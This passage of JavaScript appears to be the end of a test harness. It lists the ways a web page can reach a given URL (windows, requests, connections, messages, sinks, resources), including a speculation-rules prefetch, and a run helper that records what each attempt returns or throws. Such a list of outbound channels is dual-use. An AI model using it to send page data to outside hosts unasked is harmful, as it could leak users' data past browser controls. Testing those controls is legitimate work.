      ...loads((url) => asked('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] }) })),
      anywhere: true,
      has: () => HTMLScriptElement.supports?.('speculationrules') ?? false,
    },
  };

  const ways = { ...windows, ...requests, ...connections, ...messages, ...sinks, ...resources };

  return {
    ways,
    /** What a way holds on to, so that it is not collected meanwhile. @type {unknown} */
    kept: null,
    absent: () => Object.keys(ways).filter((name) => ways[name].has && !ways[name].has()),
    /** Starts a way. Gives what the page reads of it itself, and what was thrown. */
    async run(name, value, to) {
      const late = new Promise((done) => { setTimeout(done, 50_000); });
      try {
        const seen = await Promise.race([ways[name].start(value, to), late]);
        return { seen: typeof seen === 'string' ? seen : '', threw: '' };
      } catch (error) {
        return { seen: '', threw: `${error?.constructor?.name} ${error?.name} ${error?.message}` };
      }
    },
  };
})();
